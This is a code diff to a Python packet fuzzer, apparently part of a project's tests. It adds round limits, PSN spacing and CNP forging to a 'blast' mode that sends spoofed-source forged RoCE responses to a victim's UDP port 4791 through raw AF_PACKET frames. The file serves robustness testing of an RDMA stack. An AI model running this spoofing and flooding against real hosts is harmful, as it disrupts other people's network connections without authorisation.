@@ -9,6 +9,8 @@ this host's NIC to a victim's UDP port 4791 (tests/guest/fuzz-wire.sh).
                --src IP [--count N]
     pktfuzz.py readflood --dev eth1 --victim IP --peer IP [--count N]
                [--stop-pid PID | --stop-comm NAME]
+    pktfuzz.py blast --dev eth1 --victim IP --src IP --qpn QPN,...
+               [--op OP] [--psns N] [--rounds N] [--time S] [--rate R]
 
 Frames go out through an AF_PACKET socket, Ethernet header and all, so any
 IP source can be written (spoofing) and no route is asked.  The same kind
@@ -50,9 +52,11 @@ frames while counting or the client did not stay stopped to the end
 (its exit would have destroyed the victim's QP, which answers nothing).
 
 blast: forged responses of opcode --op (a READ response MIDDLE by
-default) for QPNs --qpn at 16 PSNs spread over the PSN space, from --src,
-for --time seconds or until SIGTERM, at most --rate a second: whatever
-the requester's PSN, some are ahead of it.
+default) for QPNs --qpn at --psns (16) PSNs spread over the PSN space,
+from --src, for --time seconds, --rounds rounds or until SIGTERM, at
+most --rate a second: whatever the requester's PSN, some are ahead of
+it.  With --op 0x81, CNPs (their 16 reserved bytes): --psns 1 --rounds 1
+sends one to each QPN.
 """
 import argparse
 import os
@@ -1119,7 +1123,7 @@ def cmd_readflood(args):
 
 def cmd_blast(args):
     """Forged responses of one opcode for QPNs --qpn, at PSNs all round
-    the 24-bit space (k << 20), from --src, until --time is up."""
+    the 24-bit space, from --src, until --time or --rounds is up."""
     sniff, wire = setup(args)
     src = socket.inet_aton(args.src)
     dst = socket.inet_aton(args.victim)
@@ -1130,17 +1134,22 @@ def cmd_blast(args):
         body += struct.pack("!I", 0x1F << 24)        # AETH: an ACK
     if o == ATOMIC_ACK:
         body += b"\0" * 8
+    if op == CNP:
+        body = b"\0" * 16
     qpns = [int(x, 0) for x in args.qpn.split(",")]
     # SIGTERM ends it early: the test is over once its victim failed
     stop = []
     signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
     t0 = time.time()
     end = t0 + args.time
-    n = 0
-    while time.time() < end and not stop:
+    n = rounds = 0
+    while time.time() < end and not stop and \
+            (not args.rounds or rounds < args.rounds):
+        rounds += 1
         for qpn in qpns:
-            for k in range(16):
-                bth = struct.pack("!BBHII", op, 0, 0xFFFF, qpn, k << 20)
+            for k in range(args.psns):
+                bth = struct.pack("!BBHII", op, 0, 0xFFFF, qpn,
+                                  (k << 24) // args.psns)
                 wire.roce(src, dst, bth, body)
                 n += 1
         # --rate: the victim must still hear its peer's TCP meanwhile
@@ -1177,6 +1186,10 @@ def main():
     p.add_argument("--op", default="0x0e")
     p.add_argument("--rate", type=float, default=0,
                    help="blast: packets a second at most (0: no bound)")
+    p.add_argument("--psns", type=int, default=16,
+                   help="blast: PSNs a round, spread over the space")
+    p.add_argument("--rounds", type=int, default=0,
+                   help="blast: rounds at most (0: until --time)")
     args = p.parse_args()
     return {"fuzz": cmd_fuzz, "inject": cmd_inject,
             "readflood": cmd_readflood, "blast": cmd_blast}[args.mode](args)
